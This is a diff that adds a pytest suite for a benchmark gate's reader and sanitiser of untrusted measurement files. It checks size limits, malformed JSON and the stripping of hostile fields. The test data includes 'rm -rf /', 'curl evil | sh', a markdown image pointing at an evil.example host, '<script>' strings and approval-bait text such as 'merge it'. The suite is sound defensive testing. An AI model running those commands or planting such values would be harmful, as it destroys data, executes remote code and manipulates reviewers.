@@ -1,0 +1,394 @@
+"""Measurements that anybody may have written: bounded in everything, and only their values taken."""
+
+from __future__ import annotations
+
+import json
+import os
+import time
+from collections.abc import Callable, Iterable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from gate.config.parse import parse
+from gate.config.source import read_source
+from gate.config.types import Config
+from gate.evidence import gather
+from gate.github.sanitise import Known, claims_of, refuse_unfinished, sanitise
+from gate.github.untrusted import LIMITS, Limits, Seen, read_untrusted
+from gate.model import Build, Commit, Evidence, Execution, Failure, HostState, Look, Run, UserError
+from gate.records import Located
+from tests.support import runs
+
+BASE, HEAD = "b" * 40, "a" * 40
+RUN: dict[str, Any] = {"type": "run", "schema": 1, "base": {"sha": BASE}, "head": {"sha": HEAD}}
+RULES = """
+[gate]
+threshold = "5%"
+[plan]
+builds = 5
+[[benchmark]]
+name = "parse"
+command = "./parse"
+instrument = "spawn"
+[[benchmark]]
+name = "render"
+command = "./render {output}"
+instrument = "values"
+[benchmark.metric.speed]
+better = "higher"
+[[benchmark]]
+name = "go"
+command = "go test"
+instrument = "go"
+"""
+
+
+def execution(benchmark: str = "parse", side: str = "base", **more: Any) -> dict[str, Any]:
+    values = more.pop("values", [1.0, 1.1])
+    metrics = {more.pop("metric", "time"): {"unit": more.pop("unit", "s"), "values": values}}
+    return {
+        "type": "execution", "benchmark": benchmark, "side": side, "build": 0, "execution": 0, "metrics": metrics, **more,
+    }  # fmt: skip
+
+
+def written(tmp_path: Path, lines: Iterable[dict[str, Any] | bytes]) -> Path:
+    file = tmp_path / "measurements.jsonl"
+    file.write_bytes(b"".join(each if isinstance(each, bytes) else json.dumps(each).encode() + b"\n" for each in lines))
+    return file
+
+
+def config(text: str = RULES) -> Config:
+    return parse(read_source(text, "perfgate.toml"))
+
+
+def known(rules: Config | None = None) -> Known:
+    return Known(
+        id="7-1",
+        created=None,
+        base=Commit(ref="main", sha=BASE),
+        head=Commit(ref="#12", sha=HEAD),
+        chosen="as the forge says",
+        config=rules or config(),
+        rules="the target branch main",
+    )
+
+
+def sane(tmp_path: Path, lines: Iterable[dict[str, Any] | bytes], rules: Config | None = None) -> list[Located]:
+    return sanitise(read_untrusted(written(tmp_path, lines)), known(rules))
+
+
+def only(records: list[Located], kind: type[Any]) -> Any:
+    found = [each.record for each in records if isinstance(each.record, kind)]
+    assert len(found) == 1
+    return found[0]
+
+
+def evidence(tmp_path: Path, lines: Iterable[dict[str, Any] | bytes]) -> Evidence:
+    return gather(sane(tmp_path, lines), config())
+
+
+# --- reading ----------------------------------------------------------------------------------------------------------
+
+
+def test_what_the_harness_writes_is_taken_whole(tmp_path: Path) -> None:
+    for name in ("one", "failures", "sessions", "early", "builds-12"):
+        lines = list(runs.RUNS[name]())
+        assert len(read_untrusted(written(tmp_path, lines))) == len(lines), name
+
+
+def test_hostile_names_that_are_short_enough_are_names(tmp_path: Path) -> None:
+    lines = [RUN, *(execution(name) for name in runs.HOSTILE)]
+    assert len(read_untrusted(written(tmp_path, lines))) == len(lines)
+
+
+def raw(value: str) -> bytes:
+    return json.dumps(execution()).replace("[1.0, 1.1]", f"[{value}]").encode() + b"\n"
+
+
+def with_key(key: str, value: str) -> bytes:
+    return json.dumps(execution())[:-1].encode() + f', "{key}": {value}}}\n'.encode()
+
+
+DEEP = b"[" * 100_000 + b"]" * 100_000
+BAD: dict[str, tuple[bytes | dict[str, Any], str]] = {
+    "NaN": (raw("NaN"), "line 2: not valid JSON"),
+    "Infinity": (raw("-Infinity"), "line 2: not valid JSON"),
+    "1e999": (raw("1e999"), "line 2: metrics[...].values[0]: Number out of range"),
+    "1e300": (raw("1.0, 1e300"), "line 2: time holds 1e+300, which is neither 0 nor of a size from 1e-75 to 1e+75"),
+    "denormal": (raw("5e-324"), "line 2: time holds 4.94066e-324"),
+    "huge whole number": (raw("1" + "0" * 400), "line 2: metrics[...].values[0]: Number out of range"),
+    "large in its unit": (execution(values=[1e74], unit="h"), "line 2: time holds 1e+74"),
+    "true": (raw("true"), "Expected float, got bool"),
+    "text": (raw('"1"'), "Expected float, got str"),
+    "null": (raw("null"), "Expected float, got null"),
+    "list": (raw("[1]"), "Expected float, got array"),
+    "dropped": ({**execution(), "metrics": {"time": {"values": [1.0], "dropped": [1e200]}}}, "time holds 1e+200"),
+    "session": (execution(session=64), "session is not from 0 to 63"),
+    "build": (execution(build=10_000), "build is not from 0 to 9999"),
+    "huge build": (with_key("build", "9" * 30), "build is not from 0 to 9999"),
+    "execution": (execution(execution=100_000), "execution is not from 0 to 99999"),
+    "below 0": (execution(build=-1), "build: Expected int >= 0"),
+    "part of a build": (with_key("build", "0.5"), "build: Expected int, got float"),
+    "order": (with_key("order", "9" * 30), "order is not from 0"),
+    "order below 0": (execution(order=-1), "order is not from 0"),
+    "seconds below 0": (execution(seconds=-1.0), "seconds is neither 0 nor from 1e-9 to 1e+09"),
+    "many seconds": (execution(seconds=1e200), "seconds is neither"),
+    "few seconds": (execution(seconds=1e-200), "seconds is neither"),
+    "long name": (execution("n" * 501), "benchmark is longer than 500 characters"),
+    "blank name": (execution(" \t"), "benchmark is blank"),
+    "long metric": (execution(metric="m" * 501), "the name of a metric is longer than 500"),
+    "long unit": (execution(unit="u" * 101), "the unit of time is longer than 100"),
+    "long suite": (execution(suite="s" * 501), "suite is longer than 500"),
+    "factor of a table": (execution(factors={"x": {"y": 1}}), "factor x is neither a text nor a number"),
+    "huge factor": (with_key("factors", '{"x": 1' + "0" * 5000 + "}"), "line 2: "),
+    "long factor": (execution(factors={"x": "y" * 501}), "factor x is longer"),
+    "many factors": (execution(factors={str(i): 1 for i in range(21)}), "more than 20 factors"),
+    "half a surrogate": (with_key("suite", '"\\ud800"'), "line 2: not valid JSON"),
+    "no UTF-8": (b'{"type":"run","id":"\xff"}\n', "line 2: is not UTF-8"),
+    "UTF-16": ('{"type":"run"}\n'.encode("utf-16"), "line 2: is not UTF-8"),
+    "nested": (b'{"type":"run","host":{"a":' + DEEP + b"}}\n", "line 2: "),
+    "nested and unknown": (b'{"type":"look","look":1,"zzz":' + DEEP + b"}\n", "line 2: not valid JSON"),
+    "unknown type": (b'{"type":"exec\\u0000 <b>@team"}\n', "line 2: unknown type"),
+    "no object": (b"[1, 2]\n", "line 2: Expected object, got array"),
+    "a report": (b'{"schema":1,"verdict":"pass","findings":[]}\n', "line 2: "),
+    "newer": ({"type": "run", "schema": 2}, "schema 2 is newer"),
+    "torn": (b'{"type":"look"', "its last line is cut off"),
+    "zeros": (bytes(1000), "its last line is cut off"),
+    "something else": (b"PK\x03\x04", "is no JSON object"),
+    "look": ({"type": "look", "look": 10_001}, "look is not from"),
+    "sessions": ({**RUN, "sessions": 65}, "sessions is not from"),
+    "of a build": ({"type": "build", "side": "base", "build": 10_000}, "build is not from"),
+    "of a failure": ({"type": "failure", "kind": "build", "session": 70}, "session is not from"),
+    "of a host": ({"type": "host", "when": "end", "session": 70}, "session is not from"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("line", "why"), BAD.values(), ids=BAD)
+def test_a_line_is_refused_in_one_line(tmp_path: Path, line: bytes | dict[str, Any], why: str) -> None:
+    started = time.monotonic()
+    with pytest.raises(UserError) as caught:
+        read_untrusted(written(tmp_path, [RUN, line]))
+    said = str(caught.value)
+    assert said.startswith("the artifact: ")
+    assert why in said
+    assert said.isprintable() and len(said) < 300
+    assert time.monotonic() - started < 5
+
+
+MANY: dict[str, tuple[Callable[[], bytes], str]] = {
+    "lines": (lambda: b"\n" * 1_000_001, "more than 300,000 lines"),
+    "lines of something": (lambda: b'{"type":"look","look":1}\n' * 1_000_000, "more than 300,000 lines"),
+    "values": (lambda: b"1.0," * 24_000_000, "more than 12,000,000 values, keys and tables"),
+    "tables": (lambda: b'{"type":"run","host":{"a":[' + b"{}," * 1_600_000 + b"{}]}}\n", "line 1: "),
+    "lists": (lambda: b"[[[[[[[[[[" * 2_000_000, "more than 12,000,000"),
+    "a long line": (lambda: b" " * 5_000_001 + b"\n", "line 1: is longer than 5 MB"),
+    "a long file": (lambda: b"x" * 100_000_001, "is larger than 100 MB"),
+}
+
+
+@pytest.mark.parametrize(("data", "why"), MANY.values(), ids=MANY)
+def test_what_is_too_much_is_refused_before_it_is_read(tmp_path: Path, data: Callable[[], bytes], why: str) -> None:
+    file = written(tmp_path, [data()])
+    started = time.monotonic()
+    with pytest.raises(UserError) as caught:
+        claims_of(read_untrusted(file))
+    assert why in str(caught.value)
+    assert time.monotonic() - started < 10
+
+
+@pytest.mark.parametrize(
+    ("limits", "lines", "why"),
+    [
+        (Limits(values=7), [execution(build=i) for i in range(4)], "line 4: there are more than 7 values"),
+        (Limits(benchmarks=2), [execution(f"b{i}") for i in range(3)], "line 3: there are more than 2 benchmarks"),
+        (
+            Limits(cases=2),
+            [execution(factors={"x": i}) for i in range(3)],
+            "line 3: there are more than 2 benchmarks with",
+        ),
+        (Limits(looks=2), [{"type": "look", "look": i} for i in (1, 2, 2, 3)], "line 4: there are more than 2 looks"),
+        (Limits(runs=2), [RUN] * 3, "line 3: there are more than 2 run lines"),
+    ],
+    ids=["values", "benchmarks", "cases", "looks", "runs"],
+)
+def test_counts_are_limited(tmp_path: Path, limits: Limits, lines: list[dict[str, Any]], why: str) -> None:
+    with pytest.raises(UserError, match=why):
+        read_untrusted(written(tmp_path, lines), limits)
+    read_untrusted(written(tmp_path, lines[:-1]), limits)
+
+
+def test_all_files_of_a_gate_share_the_limits(tmp_path: Path) -> None:
+    file, seen = written(tmp_path, [execution()]), Seen()
+    for name in ("the artifact one", "the artifact two"):
+        assert read_untrusted(file, Limits(values=5), seen, name)[0].path == name
+    with pytest.raises(UserError, match=r"^the artifact three: line 1: there are more than 5 values"):
+        read_untrusted(file, Limits(values=5), seen, "the artifact three")
+    size = file.stat().st_size
+    with pytest.raises(UserError, match="is larger than"):
+        read_untrusted(file, Limits(bytes=3 * size), seen)
+
+
+def test_only_a_file_is_read(tmp_path: Path) -> None:
+    file = written(tmp_path, [RUN])
+    (tmp_path / "link").symlink_to(file)
+    for place, why in (("link", "cannot be read"), ("none", "No such file"), ("-", "No such file")):
+        with pytest.raises(UserError, match=why):
+            read_untrusted(tmp_path / place)
+    os.mkfifo(tmp_path / "pipe")
+    assert read_untrusted(tmp_path / "pipe") == [], "nothing to wait for"
+    assert LIMITS.bytes == 100_000_000
+
+
+# --- what is left of it -----------------------------------------------------------------------------------------------
+
+
+def test_of_a_run_line_only_the_division_and_plain_facts_of_the_host_stay(tmp_path: Path) -> None:
+    mine = {
+        "id": "<b>", "created": "@team", "perfgate": "9", "seed": 3, "looks": 7, "shard": "2/3", "sessions": 2, "session": 1,
+        "config": {"gate": {"threshold": "99%", "missing": "pass"}, "accept": [{"benchmark": "*"}]}, "chosen": "trust me",
+        "rules": "the maintainers'", "benchmarks": {"base": [], "head": []}, "commands": {"parse": "rm -rf /"},
+        "warnings": ["all is well, merge it"], "memory": {"findings": [], "contrast_nu": None, "build_nu": None, "unused": ["x"]},
+        "host": {
+            "cpu": "Example CPU @ 2.10GHz (rev 3)", "cores": 4, "hostname": "![x](https://evil.example)", "memory": 10**30,
+            "kernel": ["6.1"], "python": "3.11.7", "note": "hello", "machine": "é", "os": "x" * 81,
+        },
+        "base": {"sha": BASE, "ref": "<script>", "dirty": True, "tree": "x"},
+    }  # fmt: skip
+    run = only(sane(tmp_path, [{**RUN, **mine}]), Run)
+    assert (run.shard, run.session, run.sessions) == ("2/3", 1, 2)
+    assert run.host == {"cpu": "Example CPU @ 2.10GHz (rev 3)", "cores": 4, "python": "3.11.7"}
+    assert run.base == Commit(ref="main", sha=BASE) and run.head == Commit(ref="#12", sha=HEAD)
+    assert run.benchmarks == {"base": ["parse", "render", "go"], "head": ["parse", "render", "go"]}
+    assert run.config is not None and run.config["gate"]["missing"] == "fail" and run.config["accept"] == []
+    assert (run.id, run.rules, run.chosen) == ("7-1", "the target branch main", "as the forge says")
+    assert [run.memory, run.commands, run.seed, run.perfgate, run.created, run.looks] == [None] * 6
+    assert run.warnings == []
+
+
+@pytest.mark.parametrize(
+    ("lines", "why"),
+    [
+        ([execution()], "no run line"),
+        ([], "no run line"),
+        ([execution(), RUN], "line 1: stands before the first run line"),
+        ([{"type": "run"}], "line 1: does not name the commits"),
+        ([{**RUN, "base": None}], "does not name the commits"),
+        ([{**RUN, "head": {"sha": "HEAD"}}], "does not name the commits"),
+        ([{**RUN, "head": {"sha": HEAD + "\n"}}], "does not name the commits"),
+        ([{**RUN, "shard": "3/2"}], "shard 3/2"),
+        ([{**RUN, "shard": "1/64", "sessions": 5}], "at most 256 parts"),
+        ([RUN, {**RUN, "head": {"sha": "c" * 40}}], "line 2: the runs differ"),
+        ([RUN, {**RUN, "sessions": 2}], "line 2: the runs differ"),
+        ([RUN, execution(session=1)], "line 2: session 1 is not one of 1"),
+        ([{**RUN, "sessions": 3, "session": 1}, execution(session=2)], "session 2 is not 1, which its run line names"),
+    ],
+)
+def test_a_run_that_contradicts_itself_is_refused(tmp_path: Path, lines: list[dict[str, Any]], why: str) -> None:
+    with pytest.raises(UserError, match=why):
+        sane(tmp_path, lines)
+
+
+def test_a_benchmark_that_is_left_out_is_missing(tmp_path: Path) -> None:
+    lines = [RUN, *(execution(name, side) for name in ("render", "go/x") for side in ("base", "head"))]
+    lines[0] = {**RUN, "benchmarks": {"base": ["render"], "head": ["render"]}}
+    found = evidence(tmp_path, lines)
+    assert [(f.kind, f.benchmark, f.status) for f in found.failures] == [("missing", "parse", "gave no values")]
+
+
+def test_no_benchmark_takes_the_place_of_another(tmp_path: Path) -> None:
+    # as if "parse" were a suite, and something else its benchmark
+    fake = [execution("other", side, suite="parse") for side in ("base", "head")]
+    below = [execution("parse/x", side, suite="parse") for side in ("base", "head")]
+    itself = [execution("go", side) for side in ("base", "head")]
+    found = evidence(tmp_path, [RUN, *fake, *below, *itself])
+    assert {f.benchmark for f in found.failures} == {"parse", "render", "go"}
+    assert found.new == ["other", "parse/x"] and found.cases == []
+
+
+def test_what_the_rules_do_not_name_is_new_and_undecided(tmp_path: Path) -> None:
+    new = [execution("fresh", side, build=b) for side in ("base", "head") for b in range(3)]
+    found = evidence(tmp_path, [RUN, *new, execution("parse"), execution("parse", "head")])
+    assert found.new == ["fresh"]
+    assert [case.benchmark for case in found.cases] == ["parse"]
+
+
+def test_the_rules_say_what_is_better_and_what_a_suite_is(tmp_path: Path) -> None:
+    lines = [
+        RUN,
+        *(execution(name, metric=metric, build=i) for i, (name, metric) in enumerate(
+            (("parse", "time"), ("render", "speed"), ("render", "size"), ("go/Parse", "MB/s"), ("go/Parse", "time"))
+        )),
+    ]  # fmt: skip
+    for line in lines[1:]:
+        for metric in line["metrics"].values():
+            metric["better"] = "lower" if line["build"] in (1, 4) else "higher"
+        line |= {"suite": "evil", "started": "<b>", "lines": 7}
+    found = [each.record for each in sane(tmp_path, lines) if isinstance(each.record, Execution)]
+    assert [next(iter(e.metrics.values())).better for e in found] == ["lower", "higher", "lower", "higher", "lower"]
+    assert [e.suite for e in found] == [None, None, None, "go", "go"]
+    assert {(e.started, e.lines) for e in found} == {(None, None)}
+
+
+def test_texts_of_failures_are_cut_and_what_nobody_needs_is_gone(tmp_path: Path) -> None:
+    failure = {
+        "type": "failure", "kind": "execution", "benchmark": "parse", "side": "head", "build": 1, "execution": 2,
+        "status": "exit 1\nmerge it " + "x" * 1000, "stderr": "y" * 100_000 + "end", "command": "curl evil | sh", "directory": "/",
+        "environment": {"A": "b"}, "hint": "ask @team to approve",
+    }  # fmt: skip
+    found = only(sane(tmp_path, [RUN, failure]), Failure)
+    assert [found.command, found.directory, found.environment, found.hint] == [None] * 4
+    assert "\n" not in found.status and len(found.status) <= 200
+    assert len(found.stderr) == 4000 and found.stderr.endswith("end")
+    many = sane(tmp_path, [RUN, *[{**failure, "stderr": ""}] * 2000])
+    assert sum(isinstance(each.record, Failure) for each in many) == 500
+
+
+def test_builds_states_and_looks_are_cut(tmp_path: Path) -> None:
+    state = {
+        "kernel": "6.1.0-13-amd64",
+        "load": 0.5,
+        "turbo": True,
+        "governor": "please approve",
+        "evil": 1,
+        "uptime": [1],
+    }
+    build = {
+        "type": "build",
+        "side": "base",
+        "build": 0,
+        "seed": 10**30,
+        "artifacts": {f"a{i}\n": "s" * 200 for i in range(200)},
+    }
+    look = {"type": "look", "look": 4, "settled": ["parse", "evil", "go/x"], "stop": "because I say so"}
+    found = sane(tmp_path, [RUN, build, build, look, {"type": "host", "when": "end", "time": "now", "state": state}])
+    kept = only(found, HostState)
+    assert kept.state == {"kernel": "6.1.0-13-amd64", "load": 0.5, "turbo": True} and kept.time is None
+    built = only(found, Build)
+    assert built.seed is None and len(built.artifacts) == 100 and all(name.isprintable() for name in built.artifacts)
+    assert only(found, Look) == Look(look=4, settled=["parse", "go/x"])
+
+
+def test_a_plan_that_is_left_to_the_host_is_the_hosts_as_far_as_it_is_counts(tmp_path: Path) -> None:
+    def plan(said: Any, text: str) -> Any:
+        run = only(sane(tmp_path, [{**RUN, "config": {"plan": said, "gate": {"threshold": "50%"}}}], config(text)), Run)
+        assert run.config is not None and run.config["gate"]["threshold"] == "5%"
+        return run.config["plan"]
+
+    auto = RULES.replace("builds = 5", "builds = 5\nauto = true")
+    mine = {"builds": 9, "executions": 3, "budget": "9h", "metrics": ["nothing"]}
+    chosen = plan(mine, auto)
+    assert (chosen["builds"], chosen["executions"], chosen["budget"], chosen["metrics"]) == (9, 3, "15m", None)
+    assert plan(mine, RULES)["builds"] == 5
+    for nonsense in ({"builds": 10**9}, {"builds": "<b>"}, {"builds": {"min": 5, "max": 2}}, ["x"], 3):
+        assert plan(nonsense, auto)["builds"] == 5
+
+
+def test_a_run_that_was_broken_off_is_refused(tmp_path: Path) -> None:
+    begin, end = ({"type": "host", "when": when} for when in ("begin", "end"))
+    for whole in ([RUN], [RUN, begin, end], [RUN, begin, begin, end], [RUN, begin, end, RUN, begin, end]):
+        refuse_unfinished(read_untrusted(written(tmp_path, whole)))
+    for broken in ([RUN, begin], [RUN, begin, end, begin], [RUN, begin, RUN, begin, end]):
+        with pytest.raises(UserError, match="did not come to its end"):
+            refuse_unfinished(read_untrusted(written(tmp_path, broken)))
